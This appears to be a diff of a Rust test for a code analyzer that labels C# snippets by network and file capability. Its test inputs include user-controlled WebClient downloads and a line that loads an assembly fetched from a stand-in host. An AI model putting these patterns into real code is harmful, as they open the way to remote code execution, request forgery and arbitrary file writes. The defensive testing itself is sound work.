@@ -240,7 +240,7 @@ fn networks_and_databases() {
             (r#"new WebClient().DownloadString(Request["u"]);"#, "Fetch WebClient.DownloadString Parameter:u Whole"),
             (
                 r#"new WebClient().DownloadFile(Request["u"], Request["f"]);"#,
-                "Fetch WebClient.DownloadFile Parameter:u Whole; Write WebClient.DownloadFile Parameter:f Whole",
+                "Fetch WebClient.DownloadFile Parameter:u Whole; Write WebClient.DownloadFile Parameter:f Whole also",
             ),
             (
                 r#"Assembly.Load(new WebClient().DownloadData("http://x.invalid/a"));"#,
